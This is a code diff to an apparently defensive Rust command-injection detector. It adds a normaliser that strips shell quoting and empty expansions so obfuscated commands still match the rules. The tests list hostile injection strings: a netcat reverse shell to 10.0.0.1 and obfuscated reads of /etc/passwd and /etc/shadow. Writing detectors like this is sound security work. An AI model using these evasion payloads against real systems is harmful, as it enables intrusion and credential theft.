@@ -83,6 +83,7 @@ impl Cmdi {
             return;
         }
         let same_offsets = lower.len() == t.value.text.len();
+        let unquoted = shell_unquote(lower);
         for (id, re) in &self.rules {
             if let Some(m) = re.find(lower.as_bytes()) {
                 let at = if same_offsets {
@@ -91,9 +92,75 @@ impl Cmdi {
                     0..t.value.text.len()
                 };
                 hits.push(Hit::new(*id, at));
+            } else if let Some(u) = &unquoted {
+                // Offsets in the unquoted copy do not map back: report
+                // the whole value.
+                if re.is_match(u.as_bytes()) {
+                    hits.push(Hit::new(*id, 0..t.value.text.len()));
+                }
             }
         }
     }
+}
+
+/// The value as a shell would read its words, if that differs: quotes
+/// and backslashes inside a word removed (`c''at`, `c\at`, `/e"t"c`),
+/// and empty or positional parameter expansions dropped (`c$@at`,
+/// `w$1hoami`, `ca${x}t`), which evade matching on command names.
+/// `None` when there is nothing to undo, so ordinary values cost one scan.
+fn shell_unquote(lower: &str) -> Option<String> {
+    if !lower.contains(['\'', '"', '\\', '$']) {
+        return None;
+    }
+    let b = lower.as_bytes();
+    let word = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-');
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let prev_word = out.last().is_some_and(|&p| word(p));
+        match c {
+            b'\'' | b'"' | b'\\' => {
+                // Drop a quote or backslash that sits inside a word or
+                // right before one (`c''at`, `\cat`); keep it elsewhere.
+                let next_word = b[i + 1..]
+                    .iter()
+                    .find(|&&n| !matches!(n, b'\'' | b'"' | b'\\'))
+                    .is_some_and(|&n| word(n));
+                let inside = next_word && (prev_word || c == b'\\');
+                if !inside {
+                    out.push(c);
+                }
+                i += 1;
+            }
+            b'$' if prev_word => {
+                // `$@`, `$*`, `$1`..`$9`, `${x}` inside a word expand to
+                // nothing in a non-interactive shell.
+                match b.get(i + 1) {
+                    Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
+                    Some(b'{') => match b[i..].iter().position(|&x| x == b'}') {
+                        Some(end) if end <= 16 && !lower[i..i + end].contains("ifs") => {
+                            i += end + 1
+                        }
+                        _ => {
+                            out.push(c);
+                            i += 1;
+                        }
+                    },
+                    _ => {
+                        out.push(c);
+                        i += 1;
+                    }
+                }
+            }
+            _ => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    let s = String::from_utf8(out).ok()?;
+    (s != lower).then_some(s)
 }
 
 #[cfg(test)]
@@ -125,6 +192,12 @@ mod tests {
             "; ping -c 10 127.0.0.1",
             "|nc -e /bin/sh 10.0.0.1 4444",
             ";sleep${IFS}5",
+            "x;c''at%20/e''tc/pa''sswd",
+            "x;c\\at /etc/passwd",
+            "x;c$@at /etc/passwd",
+            "x;w\"h\"oami",
+            "x|ca${z}t /etc/shadow",
+            "x;cat${IFS}/etc/passwd",
         ] {
             assert!(!ids(attack).is_empty(), "{attack}");
         }
